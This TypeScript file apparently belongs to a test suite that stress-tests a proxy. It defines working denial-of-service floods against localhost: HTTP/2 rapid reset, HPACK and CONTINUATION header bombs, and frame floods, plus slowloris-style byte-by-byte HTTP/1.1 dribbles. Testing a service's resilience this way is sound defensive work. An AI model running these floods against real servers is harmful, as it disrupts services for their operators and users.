/**
 * Floods without a rate: the given number of connections send as fast as the proxy reads. Each flood says how a connection begins and what
 * it repeats.
 */
import { randomBytes } from 'node:crypto';
import type { TLSSocket } from 'node:tls';
import {
	dataFrame,
	FLAG,
	FRAME,
	frame,
	goawayFrame,
	headersFrame,
	pingFrame,
	priorityFrame,
	rstStreamFrame,
	settingsFrame,
	windowUpdateFrame,
} from '../fixtures/h2-frames.ts';
import type { Attack, Attacker } from './attacks.ts';

/** The numbers of connections that each flood runs with; they are part of its name. */
export const FLOOD_SIZES = [1, 4, 16, 64] as const;

export interface Flood {
	readonly name: string;
	readonly alpn: 'h2' | 'http/1.1';
	/** Sent first; over HTTP/2 after the preface. */
	readonly begin?: (token: string) => Buffer;
	/** Sent again and again. @param nextId returns an unused stream identifier of the connection. */
	readonly chunk: (nextId: () => number, attacker: Attacker) => Buffer;
	/** The bytes never change, so they are made once. */
	readonly isSame?: boolean;
}

/** Approximate size of a write, bytes. */
const CHUNK = 65_536;

function repeat(bytes: Buffer): Buffer {
	return Buffer.concat(new Array(Math.max(1, Math.floor(CHUNK / bytes.length))).fill(bytes));
}

const POST: [string, string][] = [
	[':method', 'POST'],
	[':path', '/'],
	[':scheme', 'https'],
	[':authority', 'localhost'],
];
const WITH_TOKEN = (token: string): [string, string][] => [...POST, ['authorization', `Bearer ${token}`]];
/** A request that is refused at once; we reset its stream after the response. */
const refused = () => headersFrame(1, POST, { endStream: false });
/** A request that stays open. */
const admitted = (token: string) => headersFrame(1, WITH_TOKEN(token), { endStream: false });
const emptyHeaders = frame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, 1);
/** `count` new, distinct table entries, and a complete request without a token. */
function thrash(id: number, count: number): Buffer {
	const noise = randomBytes(count * 2);
	const entries = Array.from({ length: count }, (_, i) =>
		Buffer.from([0x40, 4, 0x78, 0x2d, 97 + (noise[2 * i]! % 26), 97 + (noise[2 * i + 1]! % 26), 1, 49]),
	);
	// POST, https, / and an authority, by the static table.
	const block = Buffer.concat([Buffer.of(0x83, 0x87, 0x84, 0x41, 1, 0x61), ...entries]);
	return frame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, id, block);
}
/** A head in full frames. */
function headOf(id: number, block: Buffer): Buffer {
	const frames: Buffer[] = [];
	for (let at = 0; at < block.length; at += 16_384) {
		const flags = (at === 0 ? FLAG.END_STREAM : 0) | (at + 16_384 < block.length ? 0 : FLAG.END_HEADERS);
		frames.push(frame(at === 0 ? FRAME.HEADERS : FRAME.CONTINUATION, flags, id, block.subarray(at, at + 16_384)));
	}
	return Buffer.concat(frames);
}
/** As many bytes as nine frames hold. */
const LARGE = 147_456;
/** A head that counts as 76 MB: more new entries than the table keeps as objects, a long one, and 19,000 references to it. */
const REFERENCES = Buffer.concat([
	...Array.from({ length: 130 }, (_, i) => Buffer.of(0x40, 2, 0x78, 97 + (i % 26), 1, 49)),
	// A name of one byte and a value of 3,967 bytes.
	Buffer.of(0x40, 1, 0x79, 0x7f, 0x80, 0x1e),
	Buffer.alloc(3_967, 'z'),
	Buffer.alloc(19_000, 0xbe),
]);
/** A literal without indexing: 7 bytes, and 147,449 bytes of its value. */
const LONG_LITERAL = Buffer.concat([Buffer.of(0, 1, 0x78, 0x7f, 0xfa, 0xfe, 8), Buffer.alloc(LARGE - 7, 'z')]);
/** DATA with nothing but 255 bytes of padding. */
const padding = frame(FRAME.DATA, FLAG.PADDED, 1, Buffer.concat([Buffer.of(255), Buffer.alloc(255)]));

const chunkedUpload = (token: string) =>
	Buffer.from(
		`POST / HTTP/1.1\r\nhost: localhost\r\nauthorization: Bearer ${token}\r\ntransfer-encoding: chunked\r\n\r\n`,
	);

const h2 = (name: string, begin: Flood['begin'], bytes: Buffer): Flood => ({
	name,
	alpn: 'h2',
	...(begin && { begin }),
	chunk: () => repeat(bytes),
	isSame: true,
});

const FLOODS: readonly Flood[] = [
	h2('HEADERS on a reset stream', refused, emptyHeaders),
	h2(
		'HEADERS behind our GOAWAY',
		(token) => Buffer.concat([admitted(token), goawayFrame()]),
		frame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, 3),
	),
	h2('heads of 15,000 indexed fields', refused, frame(FRAME.HEADERS, 5, 1, Buffer.alloc(15_000, 0x90))),
	{
		name: 'HPACK tables thrashed',
		alpn: 'h2',
		chunk: (nextId) => Buffer.concat(Array.from({ length: 20 }, () => thrash(nextId(), 330))),
	},
	{ name: 'references to a long HPACK entry', alpn: 'h2', chunk: (nextId) => headOf(nextId(), REFERENCES) },
	{ name: 'large CONTINUATIONs', alpn: 'h2', chunk: (nextId) => headOf(nextId(), Buffer.alloc(LARGE, 0x90)) },
	{ name: 'heads of a literal of 147 KB', alpn: 'h2', chunk: (nextId) => headOf(nextId(), LONG_LITERAL) },
	h2('large unknown frames', undefined, frame(0x42, 0, 0, Buffer.alloc(16_384))),
	h2('small unknown frames', undefined, frame(0x42, 0, 0)),
	h2('DATA of nothing but padding', admitted, padding),
	h2('DATA on a reset stream', refused, dataFrame(1, Buffer.alloc(16_384))),
	h2('empty DATA', admitted, dataFrame(1)),
	h2('DATA of a byte', admitted, dataFrame(1, 'x')),
	h2('PING', undefined, pingFrame()),
	h2('SETTINGS', undefined, settingsFrame()),
	h2('PRIORITY', undefined, priorityFrame(1)),
	h2('WINDOW_UPDATE', admitted, windowUpdateFrame(1, 1)),
	h2('RST_STREAM', refused, rstStreamFrame(1)),
	{
		name: 'rapid reset, uncapped',
		alpn: 'h2',
		chunk: (nextId, attacker) =>
			Buffer.concat(
				Array.from({ length: 100 }, () => {
					const id = nextId();
					return Buffer.concat([headersFrame(id, WITH_TOKEN(attacker.token(id))), rstStreamFrame(id)]);
				}),
			),
	},
	{
		name: 'refused requests over h2',
		alpn: 'h2',
		chunk: (nextId) => Buffer.concat(Array.from({ length: 50 }, () => headersFrame(nextId(), POST))),
	},
	{
		name: 'refused requests over h1',
		alpn: 'http/1.1',
		isSame: true,
		chunk: () => repeat(Buffer.from('GET / HTTP/1.1\r\nhost: localhost\r\n\r\n')),
	},
	{
		name: 'chunks of a byte over h1',
		alpn: 'http/1.1',
		isSame: true,
		begin: chunkedUpload,
		chunk: () => repeat(Buffer.from('1\r\nx\r\n')),
	},
	{
		name: 'heads of 1,000 fields over h1',
		alpn: 'http/1.1',
		// Names as long as `cookie`.
		chunk: () => {
			const names = randomBytes(3_000).toString('hex');
			const fields = Array.from({ length: 1_000 }, (_, i) => `${names.slice(6 * i, 6 * i + 6)}:1\r\n`);
			return Buffer.from(`GET / HTTP/1.1\r\nhost: localhost\r\n${fields.join('')}\r\n`);
		},
	},
	{
		name: 'long heads over h1',
		alpn: 'http/1.1',
		chunk: () =>
			Buffer.from(
				`GET / HTTP/1.1\r\nhost: localhost\r\n${`x-${randomBytes(8).toString('hex')}: ${'y'.repeat(80)}\r\n`.repeat(120)}\r\n`,
			),
	},
];

/** Heads and bodies in TLS records of one byte: each write is a record. */
const DRIBBLES: readonly { name: string; begin: (token: string) => string }[] = [
	{ name: 'a head by the byte over h1', begin: () => 'GET / HTTP/1.1\r\nhost: localhost\r\nx-slow: ' },
	{
		name: 'a body by the byte over h1',
		begin: (token) =>
			`POST / HTTP/1.1\r\nhost: localhost\r\nauthorization: Bearer ${token}\r\ncontent-length: 1048576\r\n\r\n`,
	},
];

/** Opens a connection and floods it. */
export type Pour = (attacker: Attacker) => Promise<TLSSocket | undefined>;

/** Each flood with each number of connections. */
export function pours(floods: readonly { readonly name: string; readonly pour: Pour }[]): Attack[] {
	return floods.flatMap(({ name, pour }) =>
		FLOOD_SIZES.map((connections) => ({
			name: `${name} × ${connections}`,
			rate: 'as fast as it is read',
			rampMs: 800,
			start: (attacker: Attacker) => attacker.keep(connections, OPENED_PER_SECOND, () => pour(attacker), connections),
		})),
	);
}

/** New connections per second after closed ones: handshakes are a separate attack. */
const OPENED_PER_SECOND = 20;

export const UNCAPPED: readonly Attack[] = pours([
	...FLOODS.map((flood) => ({ name: flood.name, pour: (attacker: Attacker) => pour(attacker, flood) })),
	...DRIBBLES.map(({ name, begin }) => ({
		name,
		pour: (attacker: Attacker) => dribble(attacker, begin(attacker.token(0))),
	})),
]);

export async function pour(attacker: Attacker, { alpn, begin, chunk, isSame }: Flood): Promise<TLSSocket | undefined> {
	const socket = alpn === 'h2' ? await attacker.connectH2() : await attacker.connect(alpn);
	if (socket === undefined) return undefined;
	if (alpn === 'http/1.1') attacker.watchH1(socket);
	if (begin !== undefined) socket.write(begin(attacker.token(0)));
	let id = 1;
	const nextId = () => {
		id += 2;
		return id - 2;
	};
	const same = isSame ? chunk(nextId, attacker) : undefined;
	const send = () => {
		if (socket.destroyed || !socket.writable) return;
		if (socket.write(same ?? chunk(nextId, attacker))) setImmediate(send);
		else socket.once('drain', () => setImmediate(send));
	};
	// After the response to the first request.
	setTimeout(send, 50);
	return socket;
}

async function dribble(attacker: Attacker, begin: string): Promise<TLSSocket | undefined> {
	const socket = await attacker.connect('http/1.1');
	if (socket === undefined) return undefined;
	attacker.watchH1(socket);
	socket.write(begin);
	const send = () => {
		if (socket.destroyed || !socket.writable) return;
		for (let i = 0; i < 100; i++) socket.write('x');
		if (socket.writableNeedDrain) socket.once('drain', () => setImmediate(send));
		else setImmediate(send);
	};
	send();
	return socket;
}
